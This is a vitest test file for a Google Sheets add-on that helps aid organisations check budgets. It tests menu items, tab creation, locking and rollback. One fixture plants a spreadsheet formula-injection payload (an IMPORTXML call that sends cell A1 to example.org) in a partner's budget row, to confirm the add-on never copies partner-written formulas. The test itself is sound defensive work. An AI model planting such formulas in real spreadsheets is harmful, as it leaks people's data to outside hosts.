import { beforeAll, describe, expect, it } from 'vitest';
import { makeAddonCode } from '../../../build/bundle-addon.js';
import { keyOf } from '../../../src/hosts/preview/stand-in/cells.js';
import type { MenuEntry } from '../../../src/hosts/preview/stand-in/stand-in.js';
import type { Reply } from '../../../src/hosts/addon/server-calls.js';
import type { SidebarView } from '../../../src/present/sidebar-view.js';
import { sheetOf, workbookOf } from '../../support/sheet-of.js';
import { type OpenScript, openScript, type Opening } from './open-script.js';

let code = '';
beforeAll(async () => {
  code = await makeAddonCode();
});

const hostile = '=IMPORTXML("https://example.org/?"&A1,"//a")';

function budget(extraLines = 0) {
  const extra = Array.from({ length: extraLines }, (_, place) => [
    'Hope Network',
    `Visit to village ${place}`,
    'trip',
    2,
    150,
    300,
  ]);
  return sheetOf('Money', [
    ['Organisation', 'Budget line', 'Unit', 'Quantity', 'Unit cost', 'Amount (USD)'],
    ['Harbour Aid', 'Project manager', 'month', 12, 1500, 18_000],
    ['Hope Network', 'Community mobiliser', 'month', 12, 500, 6_000],
    [hostile, 'Exchange workshop', 'lump sum', 1, 12_000, 12_000],
    ...extra,
  ]);
}

function open(options: Partial<Opening> = {}): OpenScript {
  return openScript({ code, workbook: workbookOf(budget()), ...options });
}

function run(script: OpenScript, name: string): OpenScript {
  script.standIn.run(name, [], 'FULL');
  expect(script.standIn.ui.alerts).toEqual([]);
  return script;
}

const tabs = ({ store }: OpenScript) => store.sheets.map(({ name }) => name);
const cellsIn = (script: OpenScript, name: string) => [...script.sheet(name).cells.values()];
const lastToast = ({ standIn }: OpenScript) =>
  standIn.ui.toasts[standIn.ui.toasts.length - 1]?.message;

function viewOf({ standIn }: OpenScript): SidebarView {
  const reply = JSON.parse(String(standIn.call('recheck', []))) as Reply<SidebarView>;
  if (!reply.ok) throw new Error(reply.message);
  return reply.value;
}

describe('the menu', () => {
  const entries = (userLocale: string) => {
    const { standIn } = open({ userLocale });
    standIn.run('onOpen', [], 'NONE');
    return standIn.ui.menu;
  };
  const shape = (entry: MenuEntry): unknown =>
    entry.kind === 'item'
      ? entry.functionName
      : entry.kind === 'submenu'
        ? entry.entries.map(shape)
        : '-';

  it('has few items before the ones to insert, and each can be called', () => {
    expect(entries('en').map(shape)).toEqual([
      'checkBudget',
      'createTransparencyReport',
      'openChecklist',
      'askTheDonor',
      [
        'insertPartnersTab',
        'insertTimelineTab',
        'insertBudgetTemplate',
        'insertOrganisationPages',
        'insertExample',
      ],
      'openSettings',
      'openHelp',
    ]);
  });

  it('is the same in every language, in its words', () => {
    expect(entries('fr').map(shape)).toEqual(entries('en').map(shape));
    expect(entries('fr').map((entry) => ('label' in entry ? entry.label : ''))).toContain(
      'Insérer',
    );
  });
});

describe.each([
  ['insertPartnersTab', 'Partners'],
  ['insertTimelineTab', 'Timeline'],
  ['insertBudgetTemplate', 'Budget'],
  ['openChecklist', 'Checklist'],
  ['openSettings', 'Even Terms settings'],
])('%s', (name, title) => {
  it('makes a tab behind the others, shows it and says so', () => {
    const script = run(open(), name);
    expect(tabs(script)).toEqual(['Money', title]);
    expect(script.store.activeSheetId).toBe(script.sheet(title).id);
    expect(lastToast(script)).toBe(`The new tab is "${title}".`);
    expect(script.sheet(title).frozenRows).toBe(1);
  });

  it('offers words to choose from', () => {
    const script = run(open(), name);
    const offered = cellsIn(script, title).flatMap(({ choice }) => choice?.words ?? []);
    expect(offered.length).toBeGreaterThan(0);
  });

  it('leaves a tab of that name that people own as it is', () => {
    const workbook = workbookOf(budget(), sheetOf(title.toUpperCase(), [['Ours']]));
    const script = run(open({ workbook }), name);
    expect(tabs(script)).toEqual(['Money', title.toUpperCase(), `${title} 2`]);
    expect(script.sheet(title.toUpperCase()).cells.get(keyOf(1, 1))?.value).toBe('Ours');
  });

  it('runs nothing that partners wrote', () => {
    const script = run(open(), name);
    const formulas = cellsIn(script, title).flatMap(({ formula }) => formula ?? []);
    expect(formulas.filter((formula) => !/^=[A-Z0-9*+:()SUM]+$/.test(formula))).toEqual([]);
  });

  it('costs no more calls in a long budget than in a short one, hidden rows apart', () => {
    const calls = (lines: number) => {
      const script = run(open({ workbook: workbookOf(budget(lines)) }), name);
      return script.calls() - script.calls(/isRowHidden/);
    };
    const few = calls(2);
    expect(calls(300)).toBe(few);
    expect(few).toBeLessThan(130);
  });

  it('of the second person at once waits, and is told', () => {
    const script = open({ lockHeldElsewhere: (kind) => kind === 'document' });
    script.standIn.run(name, [], 'FULL');
    expect(script.standIn.ui.alerts.join()).toMatch(/try again in a minute/);
    expect(tabs(script)).toEqual(['Money']);
  });

  it('that breaks off half-way leaves nothing behind', () => {
    const script = open({
      interruption: (member) => {
        if (member === 'Range.setBackgrounds') throw new Error('Internal error');
      },
    });
    script.standIn.run(name, [], 'FULL');
    expect(script.standIn.ui.alerts.join()).toMatch(/Internal error/);
    expect(tabs(script)).toEqual(['Money']);
  });
});

it.each([
  'insertPartnersTab',
  'insertTimelineTab',
  'openChecklist',
  'openSettings',
  'insertExample',
])('%s a second time opens what is there, with what people wrote', (name) => {
  const script = run(open(), name);
  const before = tabs(script);
  const [, made = ''] = before;
  script.sheet(made).cells.set(keyOf(3, 2), { value: 'Agreed' });
  script.sheet(made).hidden = true;
  run(script, name);
  expect(tabs(script)).toEqual(before);
  expect(script.sheet(made).cells.get(keyOf(3, 2))?.value).toBe('Agreed');
  expect(script.sheet(made).hidden).toBe(false);
  expect(lastToast(script)).toBe(`The tab "${made}" is there already, and is open now.`);
});

it('there may be several budgets', () => {
  const script = run(run(open(), 'insertBudgetTemplate'), 'insertBudgetTemplate');
  expect(tabs(script)).toEqual(['Money', 'Budget', 'Budget 2']);
});

describe.each([
  {
    name: 'insertPartnersTab',
    form: 'partners',
    title: 'Partners',
    theirs: sheetOf('Register', [
      ['Organisation', 'Kind of organisation', 'Working languages', 'How funded'],
      ['Northlight', 'donor', 'English', 'none'],
      ['Harbour Aid', 'lead', 'English', 'direct'],
      ['Hope Network', 'refugee-led organisation', 'French', 'sub-grant'],
    ]),
    said: 'The tab "Register" lists your partners already (A1:D4), and is open now.',
  },
  {
    name: 'insertTimelineTab',
    form: 'timeline',
    title: 'Timeline',
    theirs: sheetOf('Calendar', [
      ['What', 'Kind', 'Who', 'Date set by', 'Asked on', 'Due'],
      ['Proposal', 'proposal', 'Hope Network', 'donor', '2026-11-02', '2026-11-05'],
      ['Report', 'report', 'Hope Network', 'donor', '2026-11-02', '2026-11-09'],
    ]),
    said: 'The tab "Calendar" holds your timeline already (A1:F3), and is open now.',
  },
])('$name, where people have a list of their own', ({ name, form, title, theirs, said }) => {
  const openWithTheirs = () => open({ workbook: workbookOf(budget(), theirs) });

  it('opens theirs at its cells and says so, from the menu and from the panel', () => {
    const script = openWithTheirs();
    script.sheet(theirs.name).hidden = true;
    run(script, name);
    expect(tabs(script)).toEqual(['Money', theirs.name]);
    expect(script.store.activeSheetId).toBe(script.sheet(theirs.name).id);
    expect(script.sheet(theirs.name).hidden).toBe(false);
    expect(lastToast(script)).toContain(said);
    const reply = JSON.parse(
      String(script.standIn.call('insert', [JSON.stringify(form)])),
    ) as Reply<{ said: string }>;
    expect(reply).toEqual({ ok: true, value: { said: lastToast(script) } });
    expect(tabs(script)).toEqual(['Money', theirs.name]);
  });

  it('makes a tab once people said that theirs is something else', () => {
    const script = openWithTheirs();
    const headings = theirs.values[0];
    const correction = { what: 'table', sheet: theirs.name, headings, kind: 'other' };
    expect(script.standIn.call('correct', [JSON.stringify(correction)])).toContain('"ok":true');
    expect(tabs(run(script, name))).toEqual(['Money', theirs.name, title]);
  });

  it('makes a tab beside the example', () => {
    const script = run(open({ workbook: workbookOf(sheetOf('Sheet1', [])) }), 'insertExample');
    expect(tabs(run(script, name))).toContain(title);
  });
});

describe('the checklist', () => {
  it('has a column for each organisation, and opens the one that people made themselves', () => {
    const script = run(open(), 'openChecklist');
    const heads = [4, 5].map((column) => script.sheet('Checklist').cells.get(keyOf(1, column)));
    expect(heads.map((cell) => cell?.value)).toEqual(['Harbour Aid', 'Hope Network']);
    const theirs = sheetOf('Our answers', [
      ['Item', 'Harbour Aid'],
      ['1.1.a', 2],
      ['1.1.b', 3],
      ['1.2.a', 0],
    ]);
    const other = run(open({ workbook: workbookOf(budget(), theirs) }), 'openChecklist');
    expect(tabs(other)).toEqual(['Money', 'Our answers']);
    expect(lastToast(other)).toContain('Our answers');
  });
});

describe('the example', () => {
  it('is read while nothing else is there, and has findings', () => {
    const script = run(open({ workbook: workbookOf(sheetOf('Sheet1', [])) }), 'insertExample');
    expect(tabs(script)).toEqual(['Sheet1', 'Trial: Budget', 'Trial: Partners', 'Trial: Timeline']);
    const { sections } = viewOf(script);
    expect(sections.flatMap(({ troubles }) => troubles).length).toBeGreaterThan(3);
  });

  it('is read beside notes that hold no figures', () => {
    const notes = sheetOf('Notes', [['What we said at the meeting']]);
    const script = run(open({ workbook: workbookOf(notes) }), 'insertExample');
    const { sections } = viewOf(script);
    expect(sections.flatMap(({ troubles }) => troubles).length).toBeGreaterThan(3);
  });

  it('counts for nothing beside a budget of their own', () => {
    const script = open();
    const before = viewOf(script).head;
    expect(viewOf(run(script, 'insertExample')).head).toEqual(before);
  });
});
